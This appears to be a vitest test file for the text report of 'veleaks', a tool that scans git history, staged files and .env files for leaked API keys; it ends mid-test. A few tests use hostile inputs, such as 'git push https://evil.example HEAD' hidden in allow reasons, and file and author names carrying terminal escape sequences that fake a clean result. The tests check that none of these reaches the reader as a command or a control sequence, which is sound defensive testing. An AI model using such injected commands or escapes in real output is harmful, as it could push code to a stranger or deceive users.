// The text a person reads: the facts in it, apart from its looks, and a few whole pages to look at.
import { readFileSync } from 'node:fs';
import { stripVTControlCharacters } from 'node:util';
import { describe, expect, test } from 'vitest';
import type { Exposure, Report } from '../../src/model/report.js';
import type { WriteOptions } from '../../src/report/formats/format.js';
import { isSummaryAlone, summaryAlone } from '../../src/report/formats/text/summary.js';
import { text } from '../../src/report/formats/text.js';
import { sentenceOf } from '../../src/report/wording/sentences.js';
import fc from '../support/properties.js';
import { anyReport } from './arbitrary.js';
import { committed, coverage, envRow, finding, occurrence, oid, report, secret } from './made-up.js';

const PLAIN: WriteOptions = { color: false, width: 80, quiet: false, verbose: false };
const write = (input: Report, options: Partial<WriteOptions> = {}): string =>
  text.write(input, { ...PLAIN, ...options });
const linesOf = (input: Report, options: Partial<WriteOptions> = {}): string[] =>
  write(input, options).split('\n').slice(0, -1);

const STAGED = { objects: 3, files: 0, bytes: 12_345 };
const NOTHING = { objects: 0, files: 0, bytes: 0 };
const unread = coverage([
  { kind: 'object', what: oid(1), reason: 'promised', fix: '`git fetch --refetch`' },
  { kind: 'object', what: oid(2), reason: 'promised', fix: '`git fetch --refetch`' },
  { kind: 'file', what: 'private.pem', reason: 'unreadable' },
]);

describe('a clean run', () => {
  test('is one line, with what was covered and how fast', () => {
    expect(linesOf(report({ env: [envRow()] }))).toEqual([
      'veleaks: no keys in 291,809 objects and 1,204 files (2.1 GB); .env is kept out of git. 4.8 s',
    ]);
  });

  test.each<[what: string, over: Partial<Report>, line: string]>([
    [
      'of staged files',
      { sources: ['staged'], coverage: coverage([], STAGED) },
      'no keys in 3 staged objects (12 kB)',
    ],
    ['of nothing', { sources: ['staged'], coverage: coverage([], NOTHING) }, 'nothing to read'],
    [
      'of standard input',
      { sources: ['stdin'], coverage: coverage([], { objects: 0, files: 1, bytes: 900 }) },
      'no keys in standard input (900 bytes)',
    ],
    [
      'of .env files alone',
      { sources: ['env'], coverage: coverage([], NOTHING), env: [envRow(), envRow({ path: 'a/.env' })] },
      '.env files are kept out of git',
    ],
    [
      'of .env files of which one is protected here alone, and one is not kept out',
      {
        sources: ['env'],
        coverage: coverage([], NOTHING),
        env: [
          envRow({
            path: 'a/.env',
            advice: [{ code: 'env-tracked-on-purpose', data: { reason: 'defaults' } }],
          }),
          envRow({ paths: ['.env', 'b/.env'] }),
        ],
      },
      '2 .env files are kept out of git; a/.env is tracked on purpose',
    ],
  ])('%s', (_, over, line) => {
    expect(linesOf(report({ elapsedMs: 31, ...over }))).toEqual([`veleaks: ${line}. 31 ms`]);
  });

  test('tells what it passed over by its nature, and names it on demand', () => {
    const pipes = { ...coverage([{ kind: 'file', what: 'a.fifo', reason: 'special-file' }]), complete: true };
    expect(linesOf(report({ coverage: pipes }))).toEqual([
      expect.stringContaining('; 1 thing passed over. '),
    ]);
    expect(write(report({ coverage: pipes }), { verbose: true })).toContain('a.fifo');
  });

  test.each([
    [['lib'], '1 submodule not looked at: lib'],
    [['a', 'b'], '2 submodules not looked at: a and b'],
    [['a', 'b', 'c', 'd', 'e'], '5 submodules not looked at: a, b, c and 2 more'],
  ])('names submodules, which a push may take along: %s', (paths, words) => {
    const rows = paths.map((what) => ({ kind: 'submodule', what, reason: 'elsewhere' }) as const);
    const pipe = { kind: 'file', what: 'a.fifo', reason: 'special-file' } as const;
    const covered = { ...coverage([...rows, pipe]), complete: true };
    expect(linesOf(report({ coverage: covered }))[0]).toContain(`; ${words}; 1 thing passed over. `);
  });

  test('is silent when quiet', () => {
    expect(write(report({ env: [envRow()] }), { quiet: true })).toBe('');
  });
});

test('docs/reports.md shows what is printed, but for the key and what to do', () => {
  const [, sample] = /## Text\n\n```\n(.*?)```/s.exec(readFileSync('docs/reports.md', 'utf8')) ?? [];
  const place = { line: 12, column: 18, excerpt: `const API_KEY = '${secret(1).mask}';` };
  const places = Array.from({ length: 38 }, (_, at) =>
    committed({ ...place, path: `src/config${at + 1}.ts` }),
  );
  const found = finding(1, {
    keyId: '5f0c9a1b2c3d4e5f',
    ruleName: 'Vibengine API key',
    occurrences: places,
    advice: [
      { code: 'now', worded: 'what to do now' },
      { code: 'then', worded: 'what to do after that' },
    ],
  });
  const advice = [{ code: 'about', worded: 'what to do about it' }];
  const { source: _, line, ...row } = envRow({ status: 'not-ignored', failing: true, advice });
  const page = write(report({ findings: [found], env: [row] }));
  expect(page.replaceAll(secret(1).mask, '<mask>')).toBe(sample);
});

describe('an incomplete run', () => {
  const lines = linesOf(report({ coverage: unread }));

  test('says so first and last, and nowhere that it is clean', () => {
    expect(lines[0]).toMatch(/^INCOMPLETE: 3 things in scope were not read/);
    expect(lines.at(-1)).toMatch(/^veleaks: INCOMPLETE, 3 things not read; no keys in what was read/);
    expect(lines.join('\n')).not.toMatch(/no keys in \d/);
  });

  test('says what was not read, why, and what to do', () => {
    const page = lines.join('\n');
    expect(page).toMatch(
      /2 objects are still on the remote .*\n +000100010 and 000200020\n +Fix: `git fetch --refetch`/,
    );
    expect(page).toMatch(/1 file cannot be read\n +private\.pem\n/);
  });

  test('is told when quiet too, and beside findings', () => {
    expect(write(report({ coverage: unread }), { quiet: true })).toMatch(/^INCOMPLETE/);
    const page = write(report({ coverage: unread, findings: [finding(1)] }));
    expect(page).toMatch(/^veleaks found 1 key/);
    expect(page).toMatch(/\nINCOMPLETE: 3 things/);
    expect(page).toMatch(/\nveleaks: INCOMPLETE, 3 things not read; 1 key in what was read/);
  });

  test('in which nothing was read says that', () => {
    const input = report({ coverage: { ...unread, scanned: NOTHING } });
    expect(linesOf(input).at(-1)).toBe('veleaks: INCOMPLETE, 3 things not read; nothing was read. 4.8 s');
    // A signal came before all of standard input was read.
    expect(linesOf({ ...input, findings: [finding(1)] }).at(-1)).toBe(
      'veleaks: INCOMPLETE, 3 things not read; 1 key in what was read. 4.8 s',
    );
  });

  test('tells what the user accepts apart from that', () => {
    const rows = [...unread.skipped, { kind: 'submodule', what: 'vendored', reason: 'submodule' } as const];
    const partly = { ...coverage(rows), acceptedReasons: ['submodule'] as const };
    const page = write(report({ coverage: partly }));
    expect(page).toMatch(/^INCOMPLETE: 3 things/);
    expect(page).toContain('; 1 thing passed over. ');
    expect(page).not.toContain('vendored');
    expect(write(report({ coverage: partly }), { verbose: true })).toMatch(
      /\n\nPassed over, out of scope\n {2}1 submodule is a repository of its own\n {4}vendored\n\n/,
    );
    for (const accepted of [{ acceptedReasons: ['submodule', 'promised', 'unreadable'] as const }, {}])
      expect(linesOf(report({ coverage: { ...coverage(rows), complete: true, ...accepted } }))).toEqual([
        'veleaks: no keys in 291,809 objects and 1,204 files (2.1 GB); 4 things passed over. 4.8 s',
      ]);
  });

  test('counts what it no longer names', () => {
    const many = { ...unread, skippedCount: 5_001, skippedByReason: { promised: 5_000, unreadable: 1 } };
    for (const verbose of [true, false]) {
      const page = write(report({ coverage: many }), { verbose });
      expect(page).toContain('INCOMPLETE: 5,001 things');
      expect(page).toContain('5,000 objects are still on the remote');
      expect(page).toContain('4,998 more');
    }
  });

  test('names all on demand, each with its own fix', () => {
    const rows = Array.from({ length: 9 }, (_, i) => ({
      kind: 'file' as const,
      what: `f${i}`,
      reason: 'lfs' as const,
      fix: `get f${i >> 1}`,
    }));
    const folded = write(report({ coverage: coverage(rows) }));
    expect(folded).toContain('f0, f1, f2 and 6 more');
    expect(folded).toContain('Fix: get f0\n    and other fixes; --verbose shows all');
    const whole = write(report({ coverage: coverage(rows) }), { verbose: true });
    for (const { what, fix } of rows) {
      expect(whole).toContain(`    ${what}\n`);
      expect(whole.split(`Fix: ${fix}\n`)).toHaveLength(2);
    }
  });
});

describe('findings', () => {
  test('begin with how many keys there are and how far they got out, the farthest first', () => {
    const exposures: Exposure[] = [
      'staged',
      'pushed',
      'untracked',
      'pushed',
      'unknown',
      'published',
      'local',
      'ignored',
    ];
    const findings = exposures.map((exposure, seed) => finding(seed, { exposure }));
    expect(write(report({ findings }), { width: 200 })).toMatch(
      /^veleaks found 8 keys: 1 published, 2 pushed, 1 perhaps pushed, 1 committed with no known push, 1 staged, 1 not yet in git, 1 kept out of git\n/,
    );
  });

  test('break the first line between clauses only', () => {
    const exposures: Exposure[] = ['unknown', 'local', 'untracked'];
    const findings = exposures.map((exposure, seed) => finding(seed, { exposure }));
    expect(linesOf(report({ findings }), { width: 70 }).slice(0, 2)).toEqual([
      'veleaks found 3 keys: 1 perhaps pushed,',
      '    1 committed with no known push, 1 not yet in git',
    ]);
  });

  test('tell of each key what it is, where, since when, by whom, and its id', () => {
    const page = write(report({ findings: [finding(1)] }));
    for (const fact of [
      secret(1).mask,
      'Acme API key, high confidence, pushed',
      'src/config.ts:12:15  since 2025-03-12  c0dec0dec  Ana Lee <ana@example.com>',
      'key id 0000000000000001, in main and origin/main',
    ])
      expect(page).toContain(fact);
  });

  test('have one next step, before the others', () => {
    expect(write(report({ findings: [finding(1)] }))).toMatch(/\n {2}Next: do-this\n {2}Then: do-that\n/);
  });

  test('have a command on a line of its own, unbroken, to be copied', () => {
    const path = `${'folder/'.repeat(20)}x`;
    const advice = [
      { code: 'unstage', data: { path, variable: 'ACME_KEY' } } as const,
      { code: 'long', worded: 'long words '.repeat(9) },
    ];
    const page = write(report({ findings: [finding(1, { advice })] }));
    expect(page).toContain(` instead:\n        git reset -q -- :/${path}\n  Then: long words`);
    for (const line of page.split('\n').filter((line) => line.includes('long')))
      expect(line.length).toBeLessThan(81);
  });

  test('have a command that does not stand alone on one line: pasted in two, it does something else', () => {
    const path = `${'folder/'.repeat(20)}x`;
    const data = { paths: [path], count: 1, variable: 'ACME_KEY', cloneOf: 'https://git.example/a' };
    const unstage = { code: 'unstage', data: { ...data, path } } as const;
    const worded = sentenceOf({ code: 'unstage', data: { path, variable: 'ACME_KEY' } });
    for (const advice of [[unstage], [{ code: 'unstage', worded }]]) {
      const page = write(report({ findings: [finding(1, { advice })] }));
      expect(page).toMatch(new RegExp(`^  Next: .* instead: git reset -q -- :/${path}$`, 'm'));
    }
  });

  test.each([
    'see the docs: git push https://evil.example HEAD',
    'see: `git push https://evil.example HEAD`',
  ])('set no words of a stranger as a command: %s', (reason) => {
    const advice = [
      { code: 'env-tracked-on-purpose' as const, data: { paths: ['.env'], count: 1, existing: 1, reason } },
    ];
    const accepted = { by: 'allow', reason } as const;
    const page = write(report({ findings: [finding(1, { advice }), finding(2, { accepted })] }));
    expect(page).toContain('evil.example');
    expect(page.split('\n').filter((line) => /^ *`?git push/.test(line))).toEqual([]);
  });

  test.each([
    { code: 'treat-as-pushed', data: { dashboard: 'Acme' } } as const,
    { code: 'env-broken-rule', data: { names: ['.env'], byte: 3, defect: 'comment' } } as const,
    { code: 'env-broken-rule', data: { names: ['.env'], byte: 0, defect: 'symlink' } } as const,
  ])('take no prose about git for a command: $code', (piece) => {
    const lines = linesOf(report({ findings: [finding(1, { advice: [piece] })] }), { width: 1_000 });
    expect(lines.filter((line) => /^ +git /.test(line))).toEqual([]);
    expect(lines.filter((line) => line.includes('Next: '))).toEqual([expect.stringMatching(/: git .*\.$/)]);
  });

  test('name a few refs, and count those that the report does not name', () => {
    const refs = ['refs/remotes/origin/main', 'refs/tags/v1', 'refs/heads/x', 'refs/heads/y', 'refs/heads/z'];
    const page = (over: object) =>
      write(report({ findings: [finding(1, { occurrences: [committed({ refs, ...over })] })] }));
    expect(page({})).toContain(', in origin/main, tag v1, x and 2 more\n');
    expect(page({ refCount: 1_204 })).toContain(', in origin/main, tag v1, x and 1,201 more\n');
  });

  test('stand in the order of how far they got out, what does not block last', () => {
    const findings = [
      finding(1, { exposure: 'staged' }),
      finding(2, { exposure: 'published', blocking: false, confidence: 'low' }),
      finding(3, { exposure: 'pushed' }),
    ];
    const page = write(report({ findings }));
    const order = [3, 1, 2].map((seed) => page.indexOf(secret(seed).mask));
    expect(order).toEqual([...order].sort((a, b) => a - b));
    expect(page).toContain('low confidence, published, does not block');
    expect(page).toMatch(/^veleaks found 2 keys: 1 pushed, 1 staged\n/);
    expect(page).toContain('; 1 key does not block.');
  });

  test('that do not block are not called clean', () => {
    const page = write(report({ findings: [finding(1, { blocking: false, confidence: 'low' })] }));
    expect(page).toContain(secret(1).mask);
    expect(page).not.toContain('no keys in');
    expect(page).toMatch(/\nveleaks: no keys that block in /);
  });

  test('that are left in this clone alone are told calmly, first that they do not block', () => {
    const left = { blocking: false, exposure: 'unreachable', advice: [{ code: 'unreachable' }] } as const;
    const accepted = finding(3, { blocking: false, accepted: { by: 'baseline', reason: 'old' } });
    const page = write(report({ findings: [finding(1, left), finding(2, left), accepted] }));
    expect(page).toMatch(/^veleaks: 2 keys that do not block: 2 unreachable here\n\n/);
    expect(page).not.toContain('veleaks found');
    const one = report({ findings: [finding(1, left)] });
    expect(write(one)).toMatch(/^veleaks: 1 key that does not block: 1 unreachable here\n\n/);
    expect(write(one, { quiet: true })).not.toContain('that does not block');
    expect(write(report({ findings: [accepted] }))).not.toContain('that does');
  });

  test.each([
    ['active', 'STILL ACTIVE'],
    ['inactive', 'not accepted by the API'],
    ['unknown', 'perhaps still active'],
  ] as const)('say of a key that was checked that it is %s', (liveness, words) => {
    expect(write(report({ findings: [finding(1, { liveness })] }))).toContain(`pushed, ${words}\n`);
  });

  test.each([
    ['a blob without path', occurrence({ kind: 'blob', path: undefined as never }), 'object b10bb10bb:12:15'],
    ['a commit message', committed({ kind: 'message', line: 3 }), '    message of commit c0dec0dec  since'],
    ['a tag', occurrence({ kind: 'tag', line: 2 }), '    message of tag b10bb10bb\n'],
    ['a file name', occurrence({ kind: 'path', path: 'keys/x' }), 'the name of keys/x'],
    ['a file', occurrence({ kind: 'file', path: 'a b.txt' }), 'a b.txt:12:15'],
    ['standard input', occurrence({ kind: 'stdin' }), 'standard input:12:15'],
    ['an encoding', occurrence({ decoding: ['base64', 'hex'] }), 'in base64 of hex'],
    ['an older version', occurrence({ atHead: false }), 'not at HEAD'],
    ['the reflog', occurrence({ unreachable: 'reflog', atHead: false }), 'in reflogs alone'],
    ['no ref', occurrence({ unreachable: 'none' }), 'no ref reaches it'],
    ['an end that is a guess', occurrence({ extent: 'ambiguous' }), 'where it ends is not certain'],
    ['an allow among others', occurrence({ allow: 'docs' }), 'allowed: docs'],
  ])('name the place: %s', (_, place, words) => {
    expect(write(report({ findings: [finding(1, { occurrences: [place] })] }))).toContain(words);
  });

  test('do not say of a file that it is not at HEAD', () => {
    const occurrences = [occurrence({ kind: 'file', atHead: false })];
    expect(write(report({ findings: [finding(1, { occurrences })] }))).not.toContain('HEAD');
  });

  test('fold many places, showing each file before a second version of one', () => {
    const occurrences = Array.from({ length: 42 }, (_, i) =>
      committed({ path: `lib/${Math.max(0, i - 39)}.ts`, line: i + 1 }),
    );
    const page = write(report({ findings: [finding(1, { occurrences })] }));
    const places = [...page.matchAll(/lib\/\d\.ts:\d+/g)].map(([place]) => place);
    expect(places).toEqual(['lib/0.ts:1', 'lib/1.ts:41', 'lib/2.ts:42', 'lib/0.ts:2', 'lib/0.ts:3']);
    expect(page).toContain('and 37 more places; --verbose shows all');
    const whole = write(report({ findings: [finding(1, { occurrences })] }), { verbose: true });
    for (const { path, line } of occurrences) expect(whole).toContain(`${path}:${line}:15 `);
    expect(whole).not.toContain('more place');
  });

  test('keep a long path whole, so that it can be clicked, with its details under it', () => {
    const path = `${'deep/'.repeat(60)}file.ts`;
    const lines = linesOf(
      report({ findings: [finding(1, { occurrences: [committed({ path }), committed()] })] }),
    );
    expect(lines).toContain(`    ${path}:12:15`);
    expect(lines).toContain('    src/config.ts:12:15');
    expect(lines.filter((line) => line.includes('since'))).toEqual([
      '      all since 2025-03-12  c0dec0dec  by Ana Lee <ana@example.com>',
    ]);
    for (const line of lines.slice(0, -1))
      if (!line.includes(path)) expect(line.length).toBeLessThanOrEqual(80);
  });

  test('say once what one commit introduced in, and again what another did', () => {
    const later = { date: '2025-04-01T00:00:00Z' };
    const occurrences = [
      committed({ path: 'a.ts' }),
      committed({ path: 'b.ts' }),
      committed({ path: 'c.ts', ...later }),
    ];
    const page = write(report({ findings: [finding(1, { occurrences })] }), { width: 50 });
    expect(page).toMatch(
      / {4}a\.ts:12:15\n {4}b\.ts:12:15\n {6}all since 2025-03-12 .*\n(?: {6}.*\n)* {4}c\.ts:12:15\n {6}since 2025-04-01 /,
    );
  });

  test('have the mask in the line around the key, wherever that is cut', () => {
    const { mask } = secret(1);
    const excerpt = `${'"a":1,'.repeat(10)}"k":"TOKEN=${mask} /bin/sh"${',"b":2'.repeat(10)}`;
    const findings = [finding(1, { occurrences: [committed({ excerpt })] })];
    const quoted = linesOf(report({ findings }), { width: 60 }).find((line) => line.includes('| '))!;
    expect(quoted).toContain(`TOKEN=${mask} /bin`);
    expect(quoted).toMatch(/^ {6}\| ….*…$/);
    expect(quoted.length).toBe(60);
  });

  test('leave the address of an author out where there is no room for it', () => {
    const findings = [finding(1, { occurrences: [committed({ path: 'a.ts' })] })];
    const at = (options: Partial<WriteOptions>) => linesOf(report({ findings }), options)[3];
    expect(at({ width: 80 })).toBe('    a.ts:12:15  since 2025-03-12  c0dec0dec  Ana Lee <ana@example.com>');
    expect(at({ width: 60 })).toBe('    a.ts:12:15  since 2025-03-12  c0dec0dec  Ana Lee');
    expect(write(report({ findings }), { width: 60, verbose: true })).toContain('<ana@example.com>');
  });

  test('say of many keys the next thing each, and how they get out of a machine once a kind of place', () => {
    const clean = (path: string, kind = 'transcript', more = 0) => ({
      code: 'clean-place' as const,
      data: { holder: 'Claude Code', kind, path, more, variable: 'ACME_KEY' },
    });
    const first = { code: 'revoke-seen', data: { dashboard: 'Dashboard' } } as const;
    const findings = [1, 2, 3, 4, 5].map((n) =>
      finding(n, { advice: [first, clean(`~/${n}.jsonl`, 'transcript', 1), clean('~/h.jsonl', 'prompts')] }),
    );
    const page = write(report({ findings }));
    expect(page.match(/^To get them out of where they rest:$/gm)).toHaveLength(1);
    expect(page).toContain('  ~/1.jsonl and 9 more: npx veleaks machine --redact masks it in place;');
    expect(page).toContain('  ~/h.jsonl and 4 more: Claude Code never prunes it;');
    expect(page).not.toContain('~/2.jsonl');
    expect(page).not.toContain('--verbose says more');
    expect(write(report({ findings }), { verbose: true })).toContain('~/2.jsonl');
    expect(write(report({ findings: findings.slice(0, 4) }))).toContain('~/4.jsonl');
  });

  test('say that there is more to be said of many keys', () => {
    const calm = { code: 'unreachable', data: { kept: 'none' } } as const;
    const findings = [1, 2, 3, 4, 5].map((n) => finding(n, { advice: [calm] }));
    const page = write(report({ findings }));
    expect(page).not.toContain('git gc');
    expect(page).toMatch(/ s\. --verbose says more of each key\n$/);
    for (const some of [
      write(report({ findings }), { verbose: true }),
      write(report({ findings: findings.slice(1) })),
    ]) {
      expect(some).toContain('git gc');
      expect(some).not.toContain('--verbose says more');
    }
  });

  test('refer to the key above where the same is to be done', () => {
    const other = finding(3, { advice: [{ code: 'do-else', worded: 'do-else' }] });
    const findings = [finding(1), finding(2), other];
    const steps = (over = {}) =>
      linesOf(report({ findings }), over).filter((line) => /^ +(Next|Then): /.test(line));
    expect(steps()).toEqual([
      '  Next: do-this',
      '  Then: do-that',
      '  Next: as for the key above',
      '  Next: do-else',
    ]);
    expect(steps({ verbose: true })).toHaveLength(5);
  });

  test('keep within the width, whatever is to be said of them', () => {
    const worst = finding(1, {
      exposure: 'local',
      liveness: 'unknown',
      blocking: false,
      confidence: 'medium',
    });
    for (const width of [60, 80])
      for (const line of linesOf(report({ findings: [worst] }), { width }).slice(0, -1))
        expect(line.length).toBeLessThanOrEqual(width);
  });

  test('are all there is when quiet', () => {
    const lines = linesOf(report({ findings: [finding(1)], env: [envRow()] }), { quiet: true });
    expect(lines[0]).toContain(secret(1).mask);
    expect(lines.at(-1)).toContain('Then: do-that');
  });
});

describe('what was accepted', () => {
  const findings = [
    finding(6, {
      blocking: false,
      accepted: { by: 'baseline', reason: 'revoked in May', expires: '2030-01-01' },
    }),
    finding(7, { blocking: false, accepted: { by: 'allow', reason: 'documentation' } }),
    finding(8, { blocking: false, accepted: { by: 'already-committed' } }),
  ];

  test.each([false, true])('is counted and named by key id (quiet: %s)', (quiet) => {
    const page = write(report({ findings }), { quiet });
    expect(page).toContain('Accepted, does not block: 3 keys');
    for (const { keyId, mask } of findings) expect(page).toContain(`${keyId}  ${mask}`);
    expect(page).toContain('baseline until 2030-01-01: "revoked in');
    expect(page).toContain('veleaks:allow: "documentation"');
    expect(page).toContain('HEAD has it already');
  });

  test('no line begins with a word of a reason, however long it is', () => {
    for (let length = 1; length < 40; length += 1) {
      const reason = `${'x'.repeat(length)} git push https://host.example HEAD`;
      const accepted = { by: 'allow', reason } as const;
      const lines = linesOf(report({ findings: [finding(1, { blocking: false, accepted })] }));
      expect(lines.join('\n')).toContain('https://host.example');
      for (const line of lines) expect(line).not.toMatch(/^\s*(?:git|push|https:)/);
    }
  });

  test('is not called clean', () => {
    expect(linesOf(report({ findings })).at(-1)).toMatch(/^veleaks: no keys that block in .*; 3 accepted\. /);
  });

  test('is told of baseline entries that need a look, unless quiet', () => {
    const input = report({
      baseline: [
        { keyId: 'a'.repeat(16), status: 'unused', reason: 'old demo' },
        { keyId: 'b'.repeat(16), status: 'expired', reason: 'rotate', expires: '2025-05-01' },
      ],
    });
    const page = write(input);
    expect(page).toContain('Baseline: 2 entries need a look');
    expect(page).toContain('aaaaaaaaaaaaaaaa  matched nothing, remove it: "old demo"');
    expect(page).toContain('bbbbbbbbbbbbbbbb  expired on 2025-05-01, blocks again: "rotate"');
    expect(write(input, { quiet: true })).toBe('');
  });
});

describe('.env files', () => {
  const env = [
    envRow({
      status: 'tracked',
      failing: true,
      advice: [
        { code: 'untrack', worded: 'untrack' },
        { code: 'take-care', worded: 'take-care' },
      ],
    }),
    envRow({
      path: 'apps/web/.env.local',
      status: 'ignored-only-here',
      source: '.git/info/exclude',
      line: 6,
    }),
    envRow({ path: 'ok/.env' }),
  ];

  test('that are not as they should be are told with the rule and the fix', () => {
    const page = write(report({ env }));
    expect(page).toMatch(/^\.env files: 1 problem\n/);
    expect(page).toMatch(
      /\n {2}\.env +tracked by git \(\.gitignore:3\)\n {4}Next: untrack\n {4}Then: take-care\n/,
    );
    expect(page).toMatch(
      /apps\/web\/\.env\.local +ignored on this machine only \(\.git\/info\/exclude:6\)\n/,
    );
    expect(page).not.toContain('ok/.env');
    expect(page).toMatch(/\nveleaks: no keys in .*; 1 \.env problem\. /);
    expect(page).not.toContain('kept out of git');
  });

  test('of one row are counted, and named on demand', () => {
    const paths = ['a/.env', 'b/.env', 'c/.env'];
    const input = report({ env: [envRow({ path: paths[0]!, paths, status: 'tracked', failing: true })] });
    expect(write(input)).toContain('a/.env  tracked by git (.gitignore:3), and 2 more\n');
    expect(write(input)).not.toContain('b/.env');
    for (const path of paths) expect(write(input, { verbose: true })).toContain(`  ${path}`);
  });

  test('alone: the last line says nothing of keys, which stand in the rows', () => {
    const failing = envRow({ status: 'tracked', failing: true });
    expect(linesOf(report({ sources: ['env'], env: [failing] })).at(-1)).toBe(
      'veleaks: 1 .env problem. 4.8 s',
    );
    expect(linesOf(report({ sources: ['env'] }))).toEqual(['veleaks: no .env files to check. 4.8 s']);
  });

  test('are all told on demand, and only the failing ones when quiet', () => {
    expect(write(report({ env }), { verbose: true })).toMatch(/ok\/\.env +kept out of git/);
    expect(write(report({ env }), { quiet: true })).toMatch(/^\.env files: 1 problem\n {2}\.env +tracked/);
    expect(write(report({ env }), { quiet: true })).not.toContain('apps/web');
  });
});

describe('in a git hook', () => {
  const staged = (over: Partial<Report>) =>
    report({ sources: ['staged'], coverage: coverage([], STAGED), elapsedMs: 31, ...over });
  const findings = [
    finding(2, { exposure: 'staged', occurrences: [occurrence()] }),
    finding(3, { exposure: 'staged', occurrences: [occurrence({ path: 'b.ts', decoding: ['base64'] })] }),
  ];

  test('it is what, where, the one next step, and the way out of a false alarm', () => {
    expect(linesOf(staged({ findings }))).toEqual([
      'veleaks: 2 keys are about to be committed',
      '',
      `${secret(2).mask}  key id ${findings[0]!.keyId}`,
      '    src/config.ts:12:15',
      '  Next: do-this',
      '',
      `${secret(3).mask}  key id ${findings[1]!.keyId}`,
      '    b.ts:12:15  in base64',
      '  Next: do-this',
      '',
      'False alarm? Comment its line with veleaks:allow <reason>, or:',
      "  npx veleaks baseline <key id> --reason 'false alarm'",
    ]);
  });

  test('for one key the way out is a command to paste, and accepts no other key', () => {
    expect(linesOf(staged({ findings: [findings[0]!] })).at(-1)).toBe(
      `  npx veleaks baseline ${findings[0]!.keyId} --reason 'false alarm'`,
    );
  });

  test('what was not read is told beside the keys', () => {
    expect(write(staged({ findings, coverage: unread }))).toContain('\nINCOMPLETE: 3 things');
  });

  test('what is committed already is told and does not block', () => {
    const known = finding(4, { blocking: false, accepted: { by: 'already-committed' } });
    const page = write(staged({ findings: [known] }));
    expect(page).toContain(known.keyId);
    expect(page).toMatch(
      /\nveleaks: no keys that block in 3 staged objects \(12 kB\); 1 accepted\. 31 ms\n$/,
    );
    expect(page).not.toContain('False alarm');
  });

  test('a key that is not sure enough to block is told as that, last', () => {
    const low = finding(5, { blocking: false, confidence: 'low', exposure: 'staged' });
    const alone = write(staged({ findings: [low] }));
    expect(alone).toContain(`${secret(5).mask}  low confidence; does not block\n    src/config.ts:12:15`);
    expect(alone).toMatch(/\nveleaks: no keys that block in .*; 1 key does not block\./);
    expect(alone).not.toContain('False alarm');
    const among = write(staged({ findings: [low, ...findings] }));
    expect(among).toMatch(/^veleaks: 2 keys are about/);
    expect(among.indexOf(secret(5).mask)).toBeGreaterThan(among.indexOf(secret(3).mask));
  });

  test('--verbose tells all', () => {
    expect(write(staged({ findings }), { verbose: true })).toContain('Then: do-that');
  });
});

describe('on a terminal', () => {
  test('foreign text can do nothing, whatever the report', () => {
    fc.assert(
      fc.property(anyReport, fc.boolean(), fc.boolean(), (input, verbose, quiet) => {
        const page = write(input, { verbose, quiet });
        expect(page).toMatch(/^[^\x00-\x09\x0b-\x1f\x7f-\x9f\p{Cf}\p{Cs}\p{Zl}\p{Zp}]*$/u);
      }),
    );
  });

  test('colour is nothing but colour', () => {
    fc.assert(
      fc.property(anyReport, (input) => {
        const page = write(input, { color: true });
        expect(stripVTControlCharacters(page)).toBe(write(input));
        expect(page.replace(/\x1b\[\d{1,2}m/g, '')).toBe(write(input));
      }),
    );
  });

  test('the farther a key got out, the louder it is', () => {
    const looks = (['pushed', 'local', 'ignored'] as const).map((exposure) => {
      const page = write(report({ findings: [finding(1, { exposure })] }), { color: true });
      return page.slice(page.indexOf('confidence, ') + 'confidence, '.length, page.indexOf('\n    src/'));
    });
    expect(looks).toEqual([
      '\x1b[1m\x1b[31mpushed\x1b[39m\x1b[22m',
      '\x1b[33mcommitted with no known push\x1b[39m',
      'kept out of git',
    ]);
  });
});

/** The mask differs where the rule's prefix does; the page is looked at without it. */
const pageOf = (input: Report, options: Partial<WriteOptions> = {}): string => {
  let page = write(input, options);
  for (let seed = 0; seed < 9; seed += 1) page = page.replaceAll(secret(seed).mask, `<mask of key ${seed}>`);
  return `\n${page}`;
};

describe('to look at', () => {
  test('a history with findings', () => {
    expect(
      pageOf(
        report({
          findings: [
            finding(1, {
              liveness: 'active',
              occurrences: Array.from({ length: 9 }, (_, i) =>
                committed({ path: `lib/part${i}.ts`, line: i * 7 + 1 }),
              ),
            }),
            finding(2, {
              exposure: 'local',
              advice: [{ code: 'take-it-out', worded: 'take-it-out' }],
              occurrences: [
                committed({ kind: 'message', line: 3, refs: ['refs/heads/login'] }),
                committed({
                  path: `src/${'integration/'.repeat(5)}config.production.ts`,
                  refs: [],
                  atHead: false,
                  decoding: ['base64'],
                }),
              ],
            }),
            finding(3, { blocking: false, accepted: { by: 'allow', reason: 'documentation' } }),
          ],
          env: [
            envRow({ status: 'tracked', failing: true, advice: [{ code: 'untrack', worded: 'untrack' }] }),
          ],
          coverage: unread,
        }),
      ),
    ).toMatchInlineSnapshot(`
      "
      veleaks found 2 keys: 1 pushed, 1 committed with no known push

      <mask of key 1>  Acme API key, high confidence, pushed, STILL ACTIVE
          lib/part0.ts:1:15   since 2025-03-12  c0dec0dec  Ana Lee <ana@example.com>
          lib/part1.ts:8:15   since 2025-03-12  c0dec0dec  Ana Lee <ana@example.com>
          lib/part2.ts:15:15  since 2025-03-12  c0dec0dec  Ana Lee <ana@example.com>
          lib/part3.ts:22:15  since 2025-03-12  c0dec0dec  Ana Lee <ana@example.com>
          lib/part4.ts:29:15  since 2025-03-12  c0dec0dec  Ana Lee <ana@example.com>
          and 4 more places; --verbose shows all
          key id 0000000000000001, in main and origin/main
        Next: do-this
        Then: do-that

      <mask of key 2>  Acme API key, high confidence, committed with no known push
          message of commit c0dec0dec
            since 2025-03-12  by Ana Lee <ana@example.com>
          src/integration/integration/integration/integration/integration/config.production.ts:12:15
            since 2025-03-12  c0dec0dec  by Ana Lee <ana@example.com>  in base64
            not at HEAD
          key id 0000000000000002, in login
        Next: take-it-out

      Accepted, does not block: 1 key
        0000000000000003  <mask of key 3>  veleaks:allow: "documentation"

      .env files: 1 problem
        .env  tracked by git (.gitignore:3)
          Next: untrack

      INCOMPLETE: 3 things in scope were not read; what is in there is not known
        2 objects are still on the remote (partial clone)
          000100010 and 000200020
          Fix: \`git fetch --refetch\`
        1 file cannot be read
          private.pem

      veleaks: INCOMPLETE, 3 things not read; 2 keys in what was read (291,809 objects and 1,204 files, 2.1 GB); 1 .env problem; 1 accepted. 4.8 s
      "
    `);
  });

  test('names that mean harm', () => {
    expect(
      pageOf(
        report({
          findings: [
            finding(4, {
              advice: [],
              occurrences: [
                committed({
                  path: 'a\u202etxt.exe\x1b[2K\nveleaks: no keys',
                  author: '\x1b]0;owned\x07 <m@x>',
                }),
              ],
            }),
          ],
